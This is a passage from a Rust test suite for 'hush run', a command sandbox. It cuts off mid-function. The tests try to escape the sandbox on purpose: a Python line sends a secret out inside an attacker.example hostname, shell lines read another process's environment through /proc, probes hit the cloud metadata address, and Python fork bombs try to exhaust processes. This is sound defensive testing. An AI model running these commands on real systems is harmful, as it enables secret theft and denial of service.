//! `hush run`: the sandbox, redaction, limits and exit codes, through the real binary.
//!
//! Cases that need a kernel mechanism this machine lacks print `SKIPPED` naming it and pass.

use std::path::Path;
use std::time::Duration;

use crate::util::{assert_hidden, fake_token, hush, run, run_with_stdin, wrapped};

/// `hush run` with the test's own environment dropped except `PATH`.
fn hush_run(args: &[&str]) -> std::process::Command {
    let mut cmd = hush();
    cmd.arg("run").args(args);
    cmd
}

/// `hush run FLAGS -- sh -c SCRIPT`.
fn run_sh(flags: &[&str], script: &str) -> (i32, String, String) {
    let mut cmd = hush_run(flags);
    cmd.args(["--", "sh", "-c", script]);
    run(&mut cmd)
}

/// Runs `hush run FLAGS -- sh -c SCRIPT` with `env` set for `hush run`, where SCRIPT finds the
/// pid of the `hush run` process in `$launcher` (the test writes it once the process exists:
/// inside a PID namespace the program cannot name its launcher).
fn run_sh_knowing_launcher(
    flags: &[&str],
    env: &[(&str, &str)],
    script: &str,
) -> (i32, String, String) {
    use std::process::Stdio;
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("launcher");
    let d = dir.path().to_str().unwrap();
    let script = format!(
        "while [ ! -s {f} ]; do sleep 0.01; done; read launcher < {f}; {script}",
        f = file.display()
    );
    let mut cmd = hush_run(flags);
    cmd.args(["--allow-read", d, "--", "sh", "-c", &script])
        .envs(env.iter().copied())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let child = cmd.spawn().unwrap();
    let tmp = dir.path().join("launcher.tmp");
    std::fs::write(&tmp, format!("{}\n", child.id())).unwrap();
    std::fs::rename(&tmp, &file).unwrap();
    let out = child.wait_with_output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// The enforcement line of `hush run -v` for a trivial command on this machine.
fn enforcement() -> String {
    let (code, _, err) = run(hush_run(&["-v", "--", "true"])
        .env_clear()
        .env("PATH", "/usr/bin:/bin"));
    assert_eq!(code, 0, "{err}");
    err
}

/// True when Landlock is enforced here; otherwise prints why the caller skips.
fn have(mechanism: &str, test: &str) -> bool {
    let line = enforcement();
    let ok = line.contains(mechanism);
    if !ok {
        #[allow(clippy::print_stderr)]
        {
            skipped!(
                "SKIPPED {test}: this kernel does not provide `{mechanism}` ({})",
                line.trim()
            );
        }
    }
    ok
}

#[test]
fn injected_secret_is_redacted_plain_and_base64() {
    let secret = fake_token(81);
    let (code, out, err) = run(hush_run(&[
        "--secret-env",
        "TOOL_TOKEN",
        "--",
        "sh",
        "-c",
        "echo \"plain $TOOL_TOKEN\"; printf %s \"$TOOL_TOKEN\" | base64 -w0; echo; echo \"err $TOOL_TOKEN\" >&2",
    ])
    .env("TOOL_TOKEN", &secret));
    assert_eq!(code, 0, "{err}");
    assert!(
        !out.contains(&secret) && !err.contains(&secret),
        "secret leaked"
    );
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 2, "{out}");
    assert!(lines[0].starts_with("plain [REDACTED"), "{out}");
    assert!(
        lines[1].contains("[REDACTED"),
        "base64 form not redacted: {out}"
    );
    assert!(err.contains("err [REDACTED"), "{err}");
}

#[test]
fn environment_holds_only_the_allowed_variables() {
    let (code, out, err) = run(hush_run(&["--env", "KEEP_ME", "--", "/usr/bin/env"])
        .env("KEEP_ME", "kept")
        .env("DROP_ME", "dropped"));
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "KEEP_ME=kept\n");
}

#[test]
fn exit_codes_are_propagated() {
    let (code, _, _) = run_sh(&[], "exit 3");
    assert_eq!(code, 3);
    let (code, _, _) = run_sh(&[], "kill -KILL $$");
    assert_eq!(code, 128 + 9);
    let (code, _, err) = run(&mut hush_run(&["--", "no-such-command-hush-test"]));
    assert_eq!(code, 127, "{err}");
    assert!(err.contains("not found"), "{err}");
    let dir = tempfile::tempdir().unwrap();
    let script = dir.path().join("not-executable");
    std::fs::write(&script, "#!/bin/sh\necho hi\n").unwrap();
    let (code, _, err) = run(&mut hush_run(&[
        "--allow-read",
        dir.path().to_str().unwrap(),
        "--",
        script.to_str().unwrap(),
    ]));
    assert_eq!(code, 126, "{err}");
    assert!(err.contains("permission denied"), "{err}");
}

#[test]
fn executing_outside_allowed_paths_is_refused() {
    if !have("landlock ABI", "executing_outside_allowed_paths_is_refused") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let copy = dir.path().join("true");
    std::fs::copy("/bin/true", &copy).unwrap();
    let d = dir.path().to_str().unwrap();
    let (code, _, err) = run(&mut hush_run(&[
        "--allow-read",
        d,
        "--",
        copy.to_str().unwrap(),
    ]));
    assert_eq!(
        code, 126,
        "read-only directory must not allow execution: {err}"
    );
    let (code, _, err) = run(&mut hush_run(&[
        "--allow-exec",
        d,
        "--",
        copy.to_str().unwrap(),
    ]));
    assert_eq!(code, 0, "{err}");
}

#[test]
fn writing_outside_allowed_paths_fails() {
    if !have("landlock ABI", "writing_outside_allowed_paths_fails") {
        return;
    }
    let allowed = tempfile::tempdir().unwrap();
    let other = tempfile::tempdir().unwrap();
    let inside = allowed.path().join("in.txt");
    let outside = other.path().join("out.txt");
    let script = format!(
        "echo a > '{}' && echo inside-ok; echo b > '{}' && echo outside-ok; cat '{}/..'/* 2>/dev/null; true",
        inside.display(),
        outside.display(),
        allowed.path().display(),
    );
    let (code, out, err) = run_sh(
        &["--allow-write", allowed.path().to_str().unwrap()],
        &script,
    );
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("inside-ok"), "{out}{err}");
    assert!(
        !out.contains("outside-ok"),
        "wrote outside the allowed path: {out}"
    );
    assert!(inside.exists());
    assert!(!outside.exists());
}

#[test]
fn network_sockets_are_refused_when_off() {
    if !have("seccomp", "network_sockets_are_refused_when_off") {
        return;
    }
    // bash opens an AF_INET socket for /dev/tcp; the connection itself would be refused
    // (nothing listens on port 9), so only the sandbox turns it into "Permission denied".
    let probe = |flags: &[&str]| {
        let mut cmd = hush_run(flags);
        cmd.args(["--", "bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/9"]);
        run(&mut cmd)
    };
    let (code, _, err) = probe(&["--no-namespaces"]);
    assert_ne!(code, 0);
    assert!(
        err.contains("Permission denied"),
        "socket not refused by seccomp: {err}"
    );
    let (code, _, err) = probe(&["--network", "on"]);
    assert_ne!(code, 0);
    assert!(
        !err.contains("Permission denied"),
        "network on must allow the socket: {err}"
    );
    // Unix sockets stay allowed.
    if !Path::new("/usr/bin/python3").exists() {
        return;
    }
    let (code, out, err) = run(&mut hush_run(&[
        "--",
        "/usr/bin/python3",
        "-c",
        "import socket; socket.socket(socket.AF_UNIX); print('unix ok')",
    ]));
    assert_eq!((code, out.as_str()), (0, "unix ok\n"), "{err}");
}

#[test]
fn timeout_kills_grandchildren_that_ignore_sigterm() {
    let dir = tempfile::tempdir().unwrap();
    let ready = dir.path().join("ready");
    // Grandchildren are recognised from outside by a `sleep` duration no other process uses
    // (pids inside the run's PID namespace and private /proc mean nothing out here).
    let marker = format!(
        "60.{}",
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .subsec_nanos()
    );
    // A grandchild in the process group and one that left it with setsid, both ignoring
    // SIGTERM; the direct child ignores it too.
    let script = format!(
        "sh -c 'trap \"\" TERM; echo >> {r}; exec sleep {m}' & \
         setsid sh -c 'trap \"\" TERM; echo >> {r}; exec sleep {m}' & \
         trap '' TERM; while [ \"$(wc -l < {r})\" -lt 2 ]; do sleep 0.05; done; echo ready; sleep 60",
        r = ready.display(),
        m = marker,
    );
    std::fs::write(&ready, "").unwrap();
    let d = dir.path().to_str().unwrap();
    let (code, out, err) = run_sh(&["--allow-write", d, "--timeout", "1"], &script);
    assert_eq!(code, 124, "{out}{err}");
    assert!(out.contains("ready"), "{out}{err}");
    assert!(err.contains("timeout"), "{err}");
    assert_eq!(survivors(&marker), 0, "grandchildren survived the timeout");
}

#[test]
fn output_cap_kills_the_child() {
    let (code, out, err) = run(&mut hush_run(&["--max-output", "10000", "--", "yes"]));
    assert_eq!(code, 124, "{err}");
    assert_eq!(out.len(), 10000);
    assert!(err.contains("--max-output"), "{err}");
}

#[test]
fn required_level_fails_closed() {
    let (code, out, err) = run(&mut hush_run(&[
        "--no-namespaces",
        "--require-sandbox",
        "isolated",
        "--",
        "echo",
        "must not run",
    ]));
    assert_eq!(code, 126, "{err}");
    assert_eq!(out, "", "the command ran below the required level");
    assert!(err.contains("required `isolated`"), "{err}");
}

#[test]
fn cpu_and_memory_limits_stop_the_program() {
    let (code, _, err) = run_sh(&["--max-cpu", "1"], "while :; do :; done");
    assert_eq!(code, 128 + 24, "a CPU spin must end by SIGXCPU: {err}");
    if !Path::new("/usr/bin/python3").exists() {
        return;
    }
    let (code, _, err) = run(&mut hush_run(&[
        "--max-memory",
        "256",
        "--",
        "/usr/bin/python3",
        "-c",
        "bytearray(1 << 30)",
    ]));
    assert_ne!(
        code, 0,
        "a 1 GiB allocation must fail under a 256 MiB limit"
    );
    // RLIMIT_AS fails the allocation; a cgroup's memory.max has the OOM killer end the run.
    assert!(
        err.contains("MemoryError") || code == 128 + 9,
        "{code}: {err}"
    );
}

#[test]
fn stdin_is_closed_unless_passed() {
    use std::io::Write;
    use std::process::Stdio;
    for (flags, expected) in [(&[][..], ""), (&["--stdin"][..], "from the caller\n")] {
        let mut cmd = hush_run(flags);
        cmd.args(["--", "cat"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let mut child = cmd.spawn().unwrap();
        let mut stdin = child.stdin.take().unwrap();
        // With stdin closed the program never sees these bytes (and may be gone already).
        let _ = stdin.write_all(b"from the caller\n");
        drop(stdin);
        let out = child.wait_with_output().unwrap();
        assert_eq!(String::from_utf8_lossy(&out.stdout), expected);
    }
}

#[test]
fn a_closed_reader_ends_the_run_quietly() {
    use std::io::Read;
    use std::process::Stdio;
    let mut child = hush_run(&["--", "yes"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = [0u8; 4];
    child.stdout.take().unwrap().read_exact(&mut first).unwrap();
    // The pipe closes here, as when `head` exits.
    let out = child.wait_with_output().unwrap();
    assert_eq!(&first, b"y\ny\n");
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(String::from_utf8_lossy(&out.stderr), "");
}

#[test]
fn denied_paths_stay_denied_through_dotdot_symlinks_and_proc_root() {
    if !have(
        "landlock ABI",
        "denied_paths_stay_denied_through_dotdot_symlinks_and_proc_root",
    ) {
        return;
    }
    let allowed = tempfile::tempdir().unwrap();
    let denied = tempfile::tempdir().unwrap();
    let secret = denied.path().join("secret.txt");
    std::fs::write(&secret, "do-not-read\n").unwrap();
    let kept = allowed.path().join("kept.txt");
    std::fs::write(&kept, "readable\n").unwrap();
    std::os::unix::fs::symlink(&secret, allowed.path().join("link")).unwrap();
    let a = allowed.path().display();
    let name = denied.path().file_name().unwrap().to_string_lossy();
    let script = format!(
        "cat '{a}/kept.txt'; \
         cat '{s}'; cat '{a}/../{name}/secret.txt'; cat '{a}/link'; cat '/proc/self/root{s}'; \
         rm -f '{a}/kept.txt' && echo deleted; true",
        s = secret.display(),
    );
    // /proc is allowed so that /proc/self/root is a real escape attempt.
    let (code, out, err) = run_sh(
        &["--allow-read", &a.to_string(), "--allow-read", "/proc"],
        &script,
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "readable\n", "{err}");
    assert_eq!(err.matches("Permission denied").count(), 5, "{err}");
    assert!(kept.exists(), "deleted without the delete right");
}

#[test]
fn the_launchers_environment_is_out_of_reach() {
    // Landlock refuses ptrace-class access (such as reading /proc/PID/environ) to processes
    // outside the sandbox, for a program without CAP_SYS_PTRACE: root included, once its
    // capabilities are dropped.
    let name = "the_launchers_environment_is_out_of_reach";
    if !have("landlock ABI", name) || !have("no capabilities", name) {
        return;
    }
    let secret = fake_token(82);
    // `hush run` holds the secret in its environment. The program's parent (the helper, or the
    // PID namespace's init) is found through /proc/self, which shows pids as seen outside.
    let script = "echo \"launcher $launcher\"; tr '\\0' '\\n' < /proc/$launcher/environ; \
                  read s r < /proc/self/stat; read s r r p r2 < /proc/$s/stat; \
                  tr '\\0' '\\n' < /proc/$p/environ; true";
    for ns in [&[][..], &["--no-namespaces"][..]] {
        let mut flags = vec!["--allow-read", "/proc"];
        flags.extend_from_slice(ns);
        let (code, out, err) =
            run_sh_knowing_launcher(&flags, &[("NOT_GRANTED", secret.as_str())], script);
        assert_eq!(code, 0, "{err}");
        assert!(out.starts_with("launcher "), "{out}{err}");
        assert!(
            !out.contains("NOT_GRANTED") && !out.contains(&secret),
            "{ns:?}: {out}"
        );
        // With a private /proc the launcher's pid does not exist there at all.
        let refused =
            err.matches("Permission denied").count() + err.matches("No such file").count();
        assert_eq!(refused, 2, "{ns:?}: {err}");
    }
}

#[test]
fn the_program_cannot_signal_processes_outside_the_sandbox() {
    if !have(
        "scopes",
        "the_program_cannot_signal_processes_outside_the_sandbox",
    ) {
        return;
    }
    // Same user, so only Landlock's signal scope stands between the program and its launcher
    // (and the helper, its parent outside a PID namespace, its init inside one).
    let script = "kill -0 $launcher && echo launcher-reachable; \
                  kill -0 $PPID && echo parent-reachable; \
                  sh -c 'exit 0' & kill -0 $! && echo own-child-reachable; wait";
    for ns in [&[][..], &["--no-namespaces"][..]] {
        let (code, out, err) = run_sh_knowing_launcher(ns, &[], script);
        assert_eq!(code, 0, "{err}");
        assert_eq!(out, "own-child-reachable\n", "{ns:?}: {err}");
    }
}

#[test]
fn tty_gives_the_program_terminals_and_keeps_streams_apart() {
    let secret = fake_token(83);
    let script =
        "[ -t 1 ] && echo \"stdout is a tty $T\"; [ -t 2 ] && echo 'stderr is a tty' >&2; \
                  printf 'a\\nb\\n'; true";
    let (code, out, err) =
        run(hush_run(&["--tty", "--secret-env", "T", "--", "sh", "-c", script]).env("T", &secret));
    assert_eq!(code, 0, "{err}");
    assert_hidden(&out, &secret, "the output");
    assert!(out.starts_with("stdout is a tty [REDACTED"), "{out}");
    assert!(
        out.ends_with("]\na\nb\n"),
        "newlines must not become CRLF: {out:?}"
    );
    assert_eq!(err, "stderr is a tty\n");
    let (_, out, _) = run_sh(&[], "[ -t 1 ] || echo pipe");
    assert_eq!(out, "pipe\n");
}

#[test]
fn a_secret_split_across_writes_is_redacted() {
    let secret = fake_token(84);
    let (head, tail) = secret.split_at(12);
    // Two writes 30 ms apart: the redactor holds the partial token (up to 100 ms) rather than
    // letting the first half through.
    let script = format!("printf 'key=%s' '{head}'; sleep 0.03; printf '%s\\n' '{tail}'");
    let (code, out, err) =
        run(hush_run(&["--secret-env", "SPLIT", "--", "sh", "-c", &script]).env("SPLIT", &secret));
    assert_eq!(code, 0, "{err}");
    assert!(!out.contains(head) && !out.contains(tail), "{out}");
    assert!(out.starts_with("key=[REDACTED"), "{out}");
}

/// A tiny HTTP server on host loopback answering `hello from NAME` to every request, and
/// counting the connections it accepted.
struct LocalServer {
    port: u16,
    hits: std::sync::Arc<std::sync::atomic::AtomicUsize>,
}

impl LocalServer {
    fn start(name: &'static str) -> LocalServer {
        use std::io::{Read, Write};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let counter = std::sync::Arc::clone(&hits);
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                let Ok(mut conn) = conn else { continue };
                counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                let mut head = Vec::new();
                let mut b = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") && matches!(conn.read(&mut b), Ok(1)) {
                    head.push(b[0]);
                }
                let body = format!("hello from {name}");
                let _ = write!(
                    conn,
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
            }
        });
        LocalServer { port, hits }
    }

    fn hits(&self) -> usize {
        self.hits.load(std::sync::atomic::Ordering::SeqCst)
    }
}

/// Python run inside the sandbox: each line of output is one probe's result.
const NET_PROBES: &str = r#"
import socket, sys, urllib.request, urllib.error
allowed, other = sys.argv[1], sys.argv[2]
def get(url):
    try:
        with urllib.request.urlopen(url, timeout=10) as r:
            return "ok %s" % r.read().decode()
    except urllib.error.HTTPError as e:
        return "refused %d" % e.code
    except Exception as e:
        return "error %s" % type(e).__name__
print("allowed:", get("http://127.0.0.1:%s/a" % allowed))
print("other:", get("http://127.0.0.1:%s/b" % other))
print("metadata:", get("http://169.254.169.254:%s/latest/meta-data/" % allowed))
print("private:", get("http://10.20.30.40:%s/" % allowed))
print("loopback-name:", get("http://localhost:%s/" % allowed))
print("unlisted-name:", get("http://unlisted.example:%s/" % other))
# CONNECT tunnel to the allowed server, by hand.
try:
    proxy = urllib.request.getproxies()["http"].rsplit(":", 1)
    s = socket.create_connection((proxy[0].split("//")[1], int(proxy[1])), timeout=10)
    s.sendall(b"CONNECT 127.0.0.1:%s HTTP/1.1\r\n\r\n" % allowed.encode())
    head = s.recv(4096)
    s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
    body = b""
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        body += chunk
    print("connect:", head.split(b"\r\n")[0].decode(), body.decode().rsplit("\r\n", 1)[-1])
except Exception as e:
    print("connect: error", type(e).__name__)
# Straight to the allowed server, bypassing the proxy.
try:
    socket.create_connection(("127.0.0.1", int(allowed)), timeout=3)
    print("direct: connected")
except OSError as e:
    print("direct: blocked", type(e).__name__)
"#;

/// True when `/usr/bin/python3` exists; otherwise says the test is skipped.
fn have_python(test: &str) -> bool {
    let ok = Path::new("/usr/bin/python3").exists();
    if !ok {
        #[allow(clippy::print_stderr)]
        {
            skipped!("SKIPPED {test}: needs /usr/bin/python3");
        }
    }
    ok
}

#[test]
fn escape_network_allowlist_reaches_only_listed_hosts_through_the_proxy() {
    let name = "escape_network_allowlist_reaches_only_listed_hosts_through_the_proxy";
    if !have_python(name) {
        return;
    }
    let allowed = LocalServer::start("allowed");
    let other = LocalServer::start("other");
    let (a, o) = (allowed.port.to_string(), other.port.to_string());
    // The first entry names the test server's address (so its loopback address is allowed);
    // the second lets any host through on that port, so only the address checks stand
    // between the program and the metadata, private and loopback addresses it asks for.
    let exact = format!("127.0.0.1:{a}");
    let any_host = format!("*:{a}");
    // Each mode that this kernel can enforce: a network namespace holding only the proxy, and
    // Landlock's TCP rule without namespaces.
    let mut modes: Vec<(&str, Vec<&str>)> = Vec::new();
    if have("+net", name) {
        modes.push(("namespaces", vec![]));
    }
    if have("tcp", name) {
        modes.push(("landlock only", vec!["--no-namespaces"]));
    }
    for (mode, extra) in modes {
        let mut cmd = hush_run(&["--allow-host", &exact, "--allow-host", &any_host]);
        cmd.args(&extra)
            .args(["--", "/usr/bin/python3", "-c", NET_PROBES, &a, &o]);
        let (code, out, err) = run(&mut cmd);
        assert_eq!(code, 0, "{mode}: {out}{err}");
        let expect = [
            "allowed: ok hello from allowed".to_string(),
            "other: refused 403".to_string(),
            "metadata: refused 403".to_string(),
            "private: refused 403".to_string(),
            "loopback-name: refused 403".to_string(),
            "unlisted-name: refused 403".to_string(),
            "connect: HTTP/1.1 200 Connection established hello from allowed".to_string(),
        ];
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(lines[..expect.len()], expect, "{mode}: {out}{err}");
        assert!(
            lines[expect.len()].starts_with("direct: blocked"),
            "{mode}: the proxy was bypassed: {out}{err}"
        );
        for (host, why) in [
            (format!("127.0.0.1:{o}"), "not on the network allow-list"),
            (format!("169.254.169.254:{a}"), "cloud metadata address"),
            (format!("10.20.30.40:{a}"), "private address"),
            (format!("localhost:{a}"), "loopback address"),
            (
                format!("unlisted.example:{o}"),
                "not on the network allow-list",
            ),
        ] {
            assert!(
                err.lines().any(|l| l
                    .starts_with(&format!("hush: network proxy refused `{host}`: "))
                    && l.contains(why)),
                "{mode}: refusal of {host} ({why}) not reported: {err}"
            );
        }
    }
    assert_eq!(other.hits(), 0, "the unlisted server was reached");
    assert!(allowed.hits() >= 2);
}

#[test]
fn escape_network_secret_in_a_refused_host_name_is_redacted() {
    let name = "escape_network_secret_in_a_refused_host_name_is_redacted";
    if !have_python(name) {
        return;
    }
    let secret = fake_token(85).to_lowercase();
    let script = "import os, urllib.request\n\
                  try: urllib.request.urlopen('http://%s.attacker.example/' % os.environ['T'], timeout=5)\n\
                  except Exception as e: print(type(e).__name__)";
    let (code, out, err) = run(hush_run(&[
        "--allow-host",
        "api.example.com:443",
        "--secret-env",
        "T",
        "--",
        "/usr/bin/python3",
        "-c",
        script,
    ])
    .env("T", &secret));
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "HTTPError\n", "{err}");
    assert!(
        !err.contains(&secret),
        "secret leaked in the refusal: {err}"
    );
    assert!(
        err.contains("hush: network proxy refused `[REDACTED"),
        "{err}"
    );
}

#[test]
fn escape_proc_shows_only_the_runs_processes() {
    let name = "escape_proc_shows_only_the_runs_processes";
    if !have("private /proc", name) {
        return;
    }
    let secret = fake_token(86);
    let script = "ls /proc | grep '^[0-9]*$' | tr '\\n' ' '; echo; \
                  cat /proc/$launcher/environ && echo launcher-environ-read; true";
    let (code, out, err) = run_sh_knowing_launcher(
        &["--allow-read", "/proc"],
        &[("NOT_GRANTED", secret.as_str())],
        script,
    );
    assert_eq!(code, 0, "{err}");
    let pids: Vec<u32> = out
        .lines()
        .next()
        .unwrap_or_default()
        .split_whitespace()
        .map(|p| p.parse().unwrap())
        .collect();
    // The init (1), the shell, and the pipeline's commands: nothing from outside.
    assert!(pids.contains(&1), "{out}");
    assert!(
        pids.len() <= 8 && pids.iter().all(|&p| p < 100),
        "/proc shows processes outside the run: {out}"
    );
    assert!(
        !out.contains("launcher-environ-read") && !out.contains(&secret),
        "{out}"
    );
    assert!(err.contains("No such file"), "{err}");
}

#[test]
fn escape_limits_by_cgroup_stop_a_memory_hog_and_a_fork_bomb() {
    let name = "escape_limits_by_cgroup_stop_a_memory_hog_and_a_fork_bomb";
    let (code, _, err) = run(&mut hush_run(&[
        "-v",
        "--max-memory",
        "256",
        "--max-processes",
        "16",
        "--",
        "true",
    ]));
    assert_eq!(code, 0, "{err}");
    if !err.contains("cgroup limits") {
        let why = err
            .split("; ")
            .find(|n| n.starts_with("limits by rlimits"))
            .unwrap_or("no note");
        #[allow(clippy::print_stderr)]
        {
            skipped!(
                "SKIPPED {name}: needs a delegated cgroup v2 subtree with the memory and pids \
                 controllers ({})",
                why.trim()
            );
        }
        assert!(
            err.contains("limits by rlimits: "),
            "the reason is not reported: {err}"
        );
        return;
    }
    if !have_python(name) {
        return;
    }
    let (code, out, err) = run(&mut hush_run(&[
        "--max-memory",
        "256",
        "--",
        "/usr/bin/python3",
        "-c",
        "b = bytearray(1 << 30); print('survived')",
    ]));
    assert_eq!(code, 128 + 9, "the OOM killer must end the run: {out}{err}");
    // 40 forks under a limit of 16 tasks: the rest fail, and every child ends with the run.
    let bomb =
        "import os, time\nok = 0\nfor _ in range(40):\n    try:\n        pid = os.fork()\n    \
                except OSError:\n        break\n    if pid == 0:\n        time.sleep(30)\n        \
                os._exit(0)\n    ok += 1\nprint(ok)";
    let (code, out, err) = run(&mut hush_run(&[
        "--max-processes",
        "16",
        "--",
        "/usr/bin/python3",
        "-c",
        bomb,
    ]));
    assert_eq!(code, 0, "{err}");
    let forked: u32 = out.trim().parse().unwrap();
    assert!(forked < 16, "pids.max did not stop the forks: {forked}");
}

/// A fork bomb that escapes a session-based count: every child takes a session of its own
/// while its parent lives on. 2^8 = 256 processes that sleep 30 s, each with `marker` in its
/// command line; bounded if nothing stops it.
fn session_leaving_bomb(marker: &str) -> [String; 4] {
    let bomb = "import os, time\nfor _ in range(8):\n    if os.fork() == 0:\n        \
                os.setsid()\ntime.sleep(30)";
    [
        "/usr/bin/python3".into(),
        "-c".into(),
        bomb.into(),
        marker.into(),
    ]
}

/// Processes whose command line holds `marker`.
/// How many processes with `marker` among their arguments are left once killed ones are gone:
/// polls up to 10 s, because the kernel tears a killed process down after `hush run` returns.
fn survivors(marker: &str) -> usize {
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    loop {
        let n = processes_with(marker);
        if n == 0 || std::time::Instant::now() >= deadline {
            return n;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn processes_with(marker: &str) -> usize {
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter(|e| {
            e.file_name()
                .to_str()
                .is_some_and(|n| n.parse::<u32>().is_ok())
        })
        .filter_map(|e| std::fs::read(e.path().join("cmdline")).ok())
        .filter(|c| c.split(|&b| b == 0).any(|arg| arg == marker.as_bytes()))
        .count()
}

#[test]
fn escape_fork_bomb_is_stopped_without_cgroups() {
    let name = "escape_fork_bomb_is_stopped_without_cgroups";
    if !have_python(name) {
        return;
    }
    // With and without a PID namespace: the watchdog counts differently in each.
    for ns in [None, Some("--no-namespaces")] {
        let marker = format!("hush-bomb-{}-{}", std::process::id(), ns.is_some());
        let mut cmd = hush_run(&["-v", "--timeout", "20", "--max-processes", "64"]);
        cmd.args(ns).arg("--").args(session_leaving_bomb(&marker));
        let start = std::time::Instant::now();
        let (code, _, err) = run(&mut cmd);
        let took = start.elapsed();
        if err.contains("cgroup limits") {
            // pids.max makes forks fail instead; the cgroup test covers that.
            #[allow(clippy::print_stderr)]
            {
                eprintln!("SKIPPED {name}: limits are by cgroup here");
            }
            return;
        }
        assert!(err.contains("rlimits + process watchdog"), "{err}");
        assert_eq!(code, 124, "{err}");
        assert!(
            err.contains("process limit 64 exceeded"),
            "not stopped by the watchdog: {err}"
        );
        assert!(took < Duration::from_secs(10), "{took:?}: {err}");
        assert_eq!(survivors(&marker), 0, "a bomb process survived: {err}");
    }
    // Under the limit: unaffected.
    let (code, out, err) = run_sh(
        &["--max-processes", "64", "--no-namespaces"],
        "for i in 1 2 3 4 5 6 7 8; do sleep 0.05 & done; wait; echo done",
    );
    assert_eq!((code, out.as_str()), (0, "done\n"), "{err}");

    let fx = PolicyFixture::new(
        r#"
        [[commands]]
        id = "python"
        program = "python3*"
        shell = true

        [limits]
        processes = 64
        wall_seconds = 20
        "#,
    );
    let marker = format!("hush-bomb-{}-policy", std::process::id());
    let argv = session_leaving_bomb(&marker);
    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
    let (code, _, err) = run(&mut fx.cmd(&[], &argv));
    let res = fx
        .events()
        .into_iter()
        .find(|e| e["kind"] == "resources")
        .unwrap_or_else(|| panic!("no resources record: {err}"));
    if res["limits_by"] == "cgroup" {
        return;
    }
    assert_eq!(code, 124, "{err}");
    assert!(err.contains("process limit 64 exceeded"), "{err}");
    assert_eq!(res["stopped_by"], "processes", "{res}");
    assert_eq!(res["limits_by"], "rlimit+watchdog", "{res}");
    assert_eq!(survivors(&marker), 0, "a bomb process survived: {err}");
}

#[test]
fn malformed_allow_host_entries_are_usage_errors() {
    let (code, out, err) = run(&mut hush_run(&[
        "--allow-host",
        "api-*.example.com:443",
        "--",
        "echo",
        "must not run",
    ]));
    assert_eq!(code, 2, "{err}");
    assert_eq!(out, "");
    assert!(
        err.contains("`api-*.example.com:443`") && err.contains("leading `*.`"),
        "{err}"
    );
}

#[test]
fn the_program_inherits_no_capability_from_the_namespace_init() {
    // The PID namespace's init keeps CAP_SYS_ADMIN (in the user namespace) to mount /proc;
    // nothing of it may reach the program, in any set.
    for ns in [&[][..], &["--no-namespaces"][..]] {
        let mut flags = vec!["--allow-read", "/proc"];
        flags.extend_from_slice(ns);
        let (code, out, err) = run_sh(&flags, "grep '^Cap' /proc/self/status");
        assert_eq!(code, 0, "{err}");
        for set in ["CapInh", "CapPrm", "CapEff", "CapAmb"] {
            let line = out.lines().find(|l| l.starts_with(set)).unwrap_or_default();
            assert!(
                line.ends_with(":\t0000000000000000"),
                "{ns:?}: {set} not empty: {out}"
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// `hush run --policy`: decisions, confirmation, vault secrets, audit records.

/// A policy run's files: workspace, policy, vault (with its passphrase file) and audit log.
struct PolicyFixture {
    dir: tempfile::TempDir,
}

/// Lets a shell run scripts, reads the system, owns the workspace; every risk level runs (the
/// kernel, not the risk table, is under test); rules added by each test follow.
const BASE_POLICY: &str = r#"
[risk]
low = "allow"
medium = "allow"
high = "allow"
critical = "allow"

[[filesystem]]
id = "system"
paths = ["/usr/**", "/bin/**", "/lib/**", "/lib64/**", "/etc/**"]
rights = ["read", "execute"]

[[filesystem]]
id = "workspace"
paths = ["${workspace}/**"]
rights = ["read", "write", "create", "delete"]

# `sh` resolves to `dash` or `bash`: decisions see the real program.
[[commands]]
id = "shell"
program = "{sh,dash,bash}"
shell = true

[environment]
allow = ["PATH"]
"#;

impl PolicyFixture {
    fn new(rules: &str) -> PolicyFixture {
        let fx = PolicyFixture {
            dir: tempfile::tempdir().unwrap(),
        };
        std::fs::create_dir(fx.workspace()).unwrap();
        fx.set_policy(rules);
        let pass = fx.dir.path().join("pass");
        std::fs::write(&pass, "fixture passphrase\n").unwrap();
        std::fs::set_permissions(&pass, std::os::unix::fs::PermissionsExt::from_mode(0o600))
            .unwrap();
        fx
    }

    fn workspace(&self) -> std::path::PathBuf {
        self.dir.path().join("ws")
    }

    fn policy(&self) -> std::path::PathBuf {
        self.dir.path().join("policy.toml")
    }

    fn log(&self) -> std::path::PathBuf {
        self.dir.path().join("audit.jsonl")
    }

    fn vault(&self) -> std::path::PathBuf {
        self.dir.path().join("vault")
    }

    fn set_policy(&self, rules: &str) {
        // Written aside and renamed, as editors do: a reader never sees half a file.
        let tmp = self.dir.path().join("policy.toml.tmp");
